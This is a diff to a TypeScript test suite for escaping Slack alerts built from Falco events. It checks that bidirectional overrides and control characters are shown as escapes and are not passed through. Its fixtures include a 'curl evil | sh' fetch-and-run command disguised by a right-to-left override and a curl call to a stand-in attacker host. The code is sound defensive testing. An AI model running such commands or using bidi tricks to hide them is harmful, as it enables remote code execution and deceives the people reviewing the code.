@@ -60,6 +60,19 @@ describe("slack message escaping", () => {
     expect(process.endsWith("A…`")).toBe(true);
   });
 
+  it("bidirectional overrides and control characters in the sender's text are shown, not obeyed", () => {
+    const rec = JSON.parse(fixture("falco/terminal-shell-in-container__falco-docs.json")) as JsonObject;
+    // U+202E shows "curl evil | sh" as "hs | live lruc"; U+0007 and U+0000 are invisible
+    rec.rule = "Terminal shell \u2066in\u2069 container\u0007";
+    (rec.output_fields as JsonObject)["proc.cmdline"] = "sh -c \u202Ehs | live lruc\u202C\u0000";
+    const r = runPipeline([parseJson(JSON.stringify(rec))], ["[0]"], [], { ctx: FIXED_CTX });
+    const m = slackMessage(r.events[0]!.event);
+    for (const t of strings(m)) expect(t).not.toMatch(/[\u0000-\u0008\u202A-\u202E\u2066-\u2069]/);
+    const fields = (m.blocks[2] as { fields: { text: string }[] }).fields.map((f) => f.text);
+    expect(fields).toContain("*Process*\n`sh -c [U+202E]hs | live lruc[U+202C][U+0000]`");
+    expect((m.blocks[0] as { text: { text: string } }).text.text).toBe("Critical: Terminal shell [U+2066]in[U+2069] container[U+0007]");
+  });
+
   it("never asks Slack to unfurl: a URL in the sender's command line is not fetched for a preview", () => {
     const rec = JSON.parse(fixture("falco/terminal-shell-in-container__falco-docs.json")) as JsonObject;
     (rec.output_fields as JsonObject)["proc.cmdline"] = "curl https://attacker.example/beacon.png";
